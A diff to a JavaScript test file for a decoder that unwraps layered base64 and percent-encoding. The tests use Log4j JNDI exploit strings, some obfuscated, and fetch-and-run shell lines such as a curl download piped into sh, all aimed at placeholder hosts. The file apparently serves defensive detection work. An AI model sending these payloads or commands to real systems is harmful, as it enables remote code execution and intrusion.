@@ -110,7 +110,32 @@ describe('Log4j lookups', () => {
   });
 });
 
+describe('JNDI exploit commands', () => {
+  it('decode the base64 command of the lookup\'s path on a line of its own', () => {
+    const lookup = `\${jndi:ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(URL_TEXT)}}`;
+    expect(decodeLayers(lookup)).toEqual([
+      `\${jndi:ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(URL_TEXT)}\n${URL_TEXT}\n}`,
+    ]);
+  });
+
+  it('decode it after the lookup is spelled out and the path percent-decoded', () => {
+    const blob = b64('curl -s http://198.51.100.8/a.sh?x=1>/tmp/a;sh /tmp/a');
+    expect(blob).toMatch(/[+/]/);
+    const hidden = `\${\${lower:j}ndi:ldap://198.51.100.5:1389/TomcatBypass/Command/Base64/`
+      + `${encodeURIComponent(blob)}}`;
+    expect(decodeLayers(hidden).some((layer) => layer.includes(
+      '\ncurl -s http://198.51.100.8/a.sh?x=1>/tmp/a;sh /tmp/a\n'))).toBe(true);
+  });
+});
+
 describe('layers', () => {
+  it('decode four nested base64 inside a percent-encoded value: five rounds', () => {
+    let blob = URL_TEXT;
+    for (let i = 0; i < 4; i++) blob = b64(blob);
+    const escaped = [...blob].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
+    expect(decodeLayers(`cmd=${escaped}`)).toContain(`cmd=${URL_TEXT}`);
+  });
+
   it('decode recursively: base64 of URL-encoding of shell tricks', () => {
     const inner = encodeURIComponent('wget${IFS}http://198.51.100.9/b');
     const layers = decodeLayers(`echo ${b64(inner)} | base64 -d | sh`);
@@ -131,11 +156,11 @@ describe('layers', () => {
     expect(decodeLayers(text)).toEqual([`${URL_TEXT} | sh`]);
   });
 
-  it('stop at the decoding depth: ten nested base64 give three layers', () => {
+  it('stop at the decoding depth: ten nested base64 give five layers', () => {
     let text = URL_TEXT;
     for (let i = 0; i < 10; i++) text = b64(text);
     const layers = decodeLayers(text);
-    expect(layers).toHaveLength(3);
+    expect(layers).toHaveLength(5);
     expect(layers[0]).toBe(Buffer.from(text, 'base64').toString('latin1'));
   });
 });
